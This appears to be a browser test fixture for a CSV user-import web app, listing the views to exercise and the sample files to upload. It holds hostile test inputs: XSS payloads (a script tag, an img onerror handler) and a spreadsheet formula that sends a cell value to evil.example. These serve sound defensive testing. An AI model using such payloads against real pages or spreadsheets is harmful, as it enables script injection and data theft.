// Every view of the page, with long and hostile text.
import { choose, enter, signIn } from "./browser.js";
import { badRow, csv, file, goodRow, inWindows1250 } from "./files.js";

const SCRIPT = "<script>document.title='run'</script>";
const PICTURE = "<img src=x onerror=document.title='run'>";
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Select me")';
const LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(2);

/** Cells that must be shown as text. */
export const HOSTILE = [SCRIPT, PICTURE, FORMULA];

/** A file with hostile and long cells, in which every row has an error. */
export const HOSTILE_FILE = csv(
  badRow("hostile.one", { first: SCRIPT, last: FORMULA }),
  badRow("a".repeat(40), { first: LONG }),
  goodRow("same.login"),
  goodRow("Same.Login"),
  goodRow("hostile.two", { last: PICTURE }),
);

const GOOD_FILE = csv(goodRow("dialogue.one"), goodRow("dialogue.two"));

/** Makes one upload of each kind: 1 succeeds, 2 has errors, 3 is no CSV file, 4 is undone. */
export async function fillHistory(server, as = "alice") {
  await server.upload("new-hires.csv", csv(goodRow("new.one"), goodRow("new.two"), goodRow("new.three")), { as });
  await server.upload(`${"a-very-long-name-".repeat(8)}<b>.csv`, HOSTILE_FILE, { as });
  await server.upload("users.xlsx", "PK", { as });
  const undone = await server.upload("undone.csv", csv(goodRow("undone.one")), { as });
  await server.api(`imports/${undone.id}/undo`, { as, method: "POST" });
}

const upload = (page) => page.getByRole("link", { name: "Upload file" });

/** How to open each view after signing in. */
export const VIEWS = {
  "the history": (page) => page.goto("/"),
  "the history, filtered": (page) => page.goto("/?status=failed&status=undone&users_from=1&uploaded_by=alice"),
  "the history, filtered to nothing": (page) => page.goto("/?users_from=4000"),
  "the filter": async (page) => {
    await page.goto("/?status=failed");
    await page.locator("#filter summary").click();
  },
  "the upload dialogue": async (page) => {
    await page.goto("/");
    await upload(page).click();
  },
  "the upload dialogue with errors": async (page) => {
    await page.goto("/");
    await upload(page).click();
    await choose(page, file(`${LONG}.csv`, HOSTILE_FILE));
  },
  "the upload dialogue with a valid file": async (page) => {
    await page.goto("/");
    await upload(page).click();
    await choose(page, file("users.csv", GOOD_FILE));
  },
  "the upload dialogue with a file that is refused": async (page) => {
    await page.goto("/");
    await upload(page).click();
    await choose(page, file("users.csv", "a".repeat(200_000)));
  },
  "the upload dialogue with a choice of readings": async (page) => {
    await page.goto("/");
    await upload(page).click();
    await choose(page, file("users.csv", inWindows1250(csv(goodRow("lukasz", { first: "Łukasz", last: "Dvořák" })))));
  },
  "the upload form": (page) => page.goto("/upload"),
  "a check with errors": (page) => checkWithoutScript(page, HOSTILE_FILE),
  "a check of a valid file": (page) => checkWithoutScript(page, GOOD_FILE),
  "details of an upload that succeeded": (page) => page.goto("/imports/1"),
  "details with rows and cells": async (page) => {
    await page.goto("/imports/2");
    for (const cells of await page.getByText("Cells as uploaded").all()) await cells.click();
  },
  "details of a file with errors": (page) => page.goto("/imports/3"),
  "details of an upload that was undone": (page) => page.goto("/imports/4"),
  "the preview of an undo": (page) => page.goto("/imports/1/undo"),
  "the preview of an undo of nothing": (page) => page.goto("/imports/4/undo"),
  "what is not found": (page) => page.goto("/imports/4000"),
  "what is not understood": (page) => page.goto("/?users_from=many"),
};

/** The views before signing in. */
export const OUTER_VIEWS = {
  "sign-in": (page) => page.goto("/sign-in"),
  "sign-in with a wrong password": async (page) => {
    await page.goto("/sign-in?next=/imports/1");
    await page.getByLabel("Login").fill(`nobody.${Date.now()}`);
    await page.getByLabel("Password").fill("wrong");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("alert").waitFor();
  },
};

/** The views of other users: one without uploads, and one without the right to upload. */
export function othersViews(page, password) {
  return {
    "the empty history": () => signIn(page, { login: "newcomer", password }),
    "no right to upload": async () => {
      await page.context().clearCookies();
      await enter(page, { login: "agent", password });
      await page.getByRole("heading", { name: "No right to upload users" }).waitFor();
    },
  };
}

/** Checks a file as browsers without scripts do: by posting the form. */
async function checkWithoutScript(page, text) {
  await page.goto("/upload");
  await page.getByLabel("Completed CSV file").setInputFiles(file("users.csv", text));
  await page.locator("#upload-form").evaluate((form) => {
    form.action = "/checks";
    form.submit();
  });
  await page.waitForURL("/checks");
}
